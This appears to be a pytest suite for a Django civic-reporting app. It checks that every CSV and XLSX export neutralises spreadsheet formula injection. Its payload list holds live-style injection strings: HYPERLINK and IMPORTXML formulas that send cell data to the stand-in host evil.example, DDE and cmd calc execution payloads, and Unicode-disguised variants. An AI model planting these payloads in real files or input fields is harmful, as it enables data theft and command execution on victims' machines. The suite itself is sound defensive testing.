"""CSV injection: no file the product writes lets a spreadsheet run a citizen's text as a formula.

Every CSV and XLSX comes out of `civico.core.tabelle`; these tests find every such endpoint, send
reports whose texts carry many formula payloads, download each file and read every cell the way a
spreadsheet would (skipping blanks and invisible characters, folding full-width forms).
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from civico.accounts.models import Ruolo
from civico.core import tabelle
from tests import factories
from tests.backoffice.conftest import entra_verificato

RADICE = Path(__file__).resolve().parents[2] / "civico"

# Every route that answers with a CSV or an XLSX file. A new one must be added here (and so to
# the injection test below): `test_every_spreadsheet_endpoint_is_listed` finds them.
ESPORTAZIONI = {"backoffice:esporta_csv", "backoffice:esporta_xlsx", "analisi:scarica", "analisi_staff:triage_csv"}
# Exports with no text anyone outside staff wrote (months and counts only): listed, written through
# core/tabelle like every other (test_no_module_writes_csv_or_xlsx_by_itself), no report to inject from.
SENZA_TESTI = {"analisi_staff:triage_csv"}

PAYLOAD = [
    '=HYPERLINK("http://evil.example/?d="&A1;"Clicca")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "＝HYPERLINK(\"http://evil.example\")",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(A1)",
    "\u2212 1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u200b \u2060+1+1",
    "\u00ad@SUM(A1)",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A2), \"//a\")",
]
SEPARATORI_CSV = {"backoffice:esporta_csv": ";", "analisi:scarica": ","}


def _sembra_formula(testo: str) -> bool:
    """Independent of the module under test: what a spreadsheet would run."""
    if testo[:1] in ("\t", "\r", "\n"):
        return True
    visibile = "".join(c for c in testo if not (c.isspace() or unicodedata.category(c) in ("Cc", "Cf")))
    primo = unicodedata.normalize("NFKC", visibile[:1])
    return primo in ("=", "+", "-", "@") or visibile[:1] == "\u2212"


def _rotte() -> dict[str, str]:
    """name → route text of every URL pattern in the project."""
    trovate: dict[str, str] = {}

    def visita(schemi, prefisso: str, spazio: str) -> None:
        for schema in schemi:
            if isinstance(schema, URLResolver):
                nome = f"{spazio}{schema.namespace}:" if schema.namespace else spazio
                visita(schema.url_patterns, prefisso + str(schema.pattern), nome)
            elif isinstance(schema, URLPattern) and schema.name:
                trovate[spazio + schema.name] = prefisso + str(schema.pattern)

    visita(get_resolver().url_patterns, "", "")
    return trovate


def test_every_spreadsheet_endpoint_is_listed():
    sospette = {
        nome for nome, rotta in _rotte().items()
        if re.search(r"csv|xlsx|xls\b|tsv|ods|<str:formato>|esporta|export", rotta, re.IGNORECASE)
    }
    assert sospette <= ESPORTAZIONI, f"endpoint da aggiungere al test: {sospette - ESPORTAZIONI}"
    assert set(_rotte()) >= ESPORTAZIONI


def test_no_module_writes_csv_or_xlsx_by_itself():
    scrittori = re.compile(r"csv\.(writer|DictWriter)|openpyxl|xlsxwriter|to_csv\(|to_excel\(")
    colpevoli = [
        str(p.relative_to(RADICE)) for p in RADICE.rglob("*.py")
        if p.name != "tabelle.py" and "migrations" not in p.parts and scrittori.search(p.read_text())
    ]
    assert colpevoli == []


@pytest.fixture
def con_formule(alessandria):
    """One public report per payload: in its title, description and the reporter's name."""
    for i, payload in enumerate(PAYLOAD):
        factories.segnalazione(alessandria, titolo=payload, descrizione=f"{payload}\nseconda riga {i}",
                               nome=payload, email=f"p{i}@example.org")
    return alessandria


def _celle_csv(corpo: bytes, separatore: str) -> list[list[str]]:
    testo = corpo.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(testo, newline=""), delimiter=separatore))


def _celle_xlsx(corpo: bytes) -> list[list[object]]:
    return [list(r) for r in load_workbook(io.BytesIO(corpo)).active.iter_rows(values_only=True)]


@pytest.mark.django_db
@pytest.mark.parametrize("rotta", sorted(ESPORTAZIONI - SENZA_TESTI))
def test_no_exported_cell_begins_with_a_formula(client, con_formule, rotta):
    operatore = factories.staff("al.operatore", Ruolo.OPERATORE, con_formule)
    entra_verificato(client, operatore)
    if rotta == "analisi:scarica":
        risposta = client.get(reverse(rotta, args=[con_formule.slug, "csv"]))
    else:
        risposta = client.get(reverse(rotta) + "?scheda=tutte")
    assert risposta.status_code == 200
    corpo = b"".join(risposta.streaming_content) if risposta.streaming else risposta.content
    if rotta.endswith("xlsx"):
        assert risposta["Content-Type"] == tabelle.CONTENT_TYPE_XLSX
        righe = _celle_xlsx(corpo)
    else:
        assert risposta["Content-Type"] == "text/csv; charset=utf-8"
        righe = _celle_csv(corpo, SEPARATORI_CSV[rotta])
    intestazione, dati = righe[0], righe[1:]
    assert len(dati) == len(PAYLOAD)
    formule = [c for r in righe for c in r if isinstance(c, str) and _sembra_formula(c)]
    assert formule == []
    # Nothing is lost: each title is there whole, behind the quote.
    colonna = intestazione.index("titolo" if rotta == "analisi:scarica" else "Titolo")
    assert sorted(r[colonna] for r in dati) == sorted("'" + p for p in PAYLOAD)
    # Coordinates stay numbers.
    lat = intestazione.index("lat" if rotta == "analisi:scarica" else "Latitudine")
    assert all(isinstance(r[lat], float) or float(r[lat]) > 44 for r in dati)


@pytest.mark.django_db
def test_the_backoffice_csv_keeps_its_bom_and_semicolons(client, con_formule):
    entra_verificato(client, factories.staff("al.operatore", Ruolo.OPERATORE, con_formule))
    corpo = b"".join(client.get("/backoffice/esporta.csv").streaming_content)
    assert corpo.startswith("\ufeff".encode()) and b";" in corpo.splitlines()[0]


@pytest.mark.parametrize("payload", PAYLOAD + ["\t=1", "\r=1", "\n@x", " =1", "\u3000=1", "\u00a0+1"])
def test_every_payload_variant_is_quoted(payload):
    assert tabelle.testo_sicuro(payload) == "'" + payload
    assert not _sembra_formula(tabelle.testo_sicuro(payload))


@pytest.mark.parametrize("innocuo", ["Buca in via Roma", "AL-2026-000123", "2026-05-04", "Via 4 = 2+2", "", "'già"])
def test_ordinary_text_is_left_alone(innocuo):
    assert tabelle.testo_sicuro(innocuo) == innocuo


@pytest.mark.parametrize("numero", [-12.5, -3, Decimal("-44.91"), 0, date(2026, 1, 2), datetime(2026, 1, 2, 3, 4)])
def test_numbers_and_dates_stay_what_they_are(numero):
    assert tabelle.cella(numero) == numero
    riga = _celle_xlsx(tabelle.xlsx(["x"], [[numero]]))[1][0]
    atteso = float(numero) if isinstance(numero, Decimal) else numero
    assert riga == atteso or riga == datetime(2026, 1, 2, 0, 0)  # a date comes back as midnight
    assert list(csv.reader(io.StringIO(tabelle.csv_testo(["x"], [[numero]]))))[1][0] == (
        numero.isoformat(sep=" ") if isinstance(numero, datetime) else str(numero)
    )


@settings(max_examples=200, deadline=None)
@given(
    prima=st.text(alphabet=" \t\u00a0\u3000\u200b\u2060\ufeff\x01\x1f", max_size=4),
    innesco=st.sampled_from("=+-@＝＋－＠﹦﹢﹣﹫\u2212"),
    resto=st.text(max_size=20),  # control characters too: the XLSX drops those it cannot hold
)
def test_no_mix_of_blanks_and_triggers_gets_through(prima, innesco, resto):
    testo = prima + innesco + resto
    for cella in _celle_csv(tabelle.csv_testo(["t"], [[testo]]).encode(), ",")[1] + _celle_xlsx(
        tabelle.xlsx(["t"], [[testo]])
    )[1]:
        assert not (isinstance(cella, str) and _sembra_formula(cella))
